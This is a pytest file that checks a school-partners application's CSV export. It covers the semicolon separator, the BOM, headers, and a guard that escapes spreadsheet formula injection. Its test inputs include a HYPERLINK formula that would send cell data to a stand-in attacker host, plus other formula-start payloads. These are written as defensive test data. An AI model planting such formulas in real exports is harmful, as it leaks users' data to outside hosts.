"""The one CSV writer (issue 10, item 7): `;`, UTF-8 with BOM, translated headers, formula guard on every cell."""

import csv
import io
from datetime import date

import pytest

from schoolpartners.csvfile import csv_response, csv_text, guard

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


def read_back(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "+1+2", "-1+2", "@SUM(A1)", "x;=1+2", "x; =1+2", "a\t=1", "a\n@b", "a\r+b", "x,=1+2", "\tx", " =1"],
)
def test_every_formula_start_and_segment_is_guarded(value):
    """Item 7, findings #11 and #19: a cell or any segment after a separator that starts with = + - @ stays text."""
    assert guard(value) == "'" + value
    rows = read_back(csv_text(["h"], [[value]]))
    assert rows[1] == ["'" + value]


@pytest.mark.parametrize("value", ["Gymnasium Nord", "Школа № 5", "a-b", "x=1", "mail@example.org", "A; B", ""])
def test_plain_text_is_left_alone(value):
    """Item 7: only what a spreadsheet could run gets the apostrophe."""
    assert read_back(csv_text(["h"], [[value]]))[1] == [value]


def test_separator_bom_header_and_types():
    """Item 7: `;` separates, the BOM comes first, the header is written as given, numbers and dates stay data."""
    text = csv_text(["Schule", "Seit", "Anzahl"], [["Школа № 5", date(2026, 1, 2), -3], ["x;=1+2", None, 4]])
    assert text.startswith("\ufeffSchule;Seit;Anzahl\r\n")
    assert read_back(text) == [["Schule", "Seit", "Anzahl"], ["Школа № 5", "2026-01-02", "-3"], ["'x;=1+2", "", "4"]]


def test_header_cells_are_guarded_too():
    """Item 7: the guard runs on every cell, the header included."""
    assert read_back(csv_text(["=1+2"], []))[0] == ["'=1+2"]


def test_response_is_a_utf8_attachment(app):
    """Item 7: the download is text/csv, an attachment with the given name, UTF-8 with BOM."""
    with app.test_request_context():
        response = csv_response("export.csv", ["Name"], [["Лена"]])
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == "attachment; filename=export.csv"
    assert response.get_data().startswith("\ufeff".encode()) and "Лена".encode() in response.get_data()
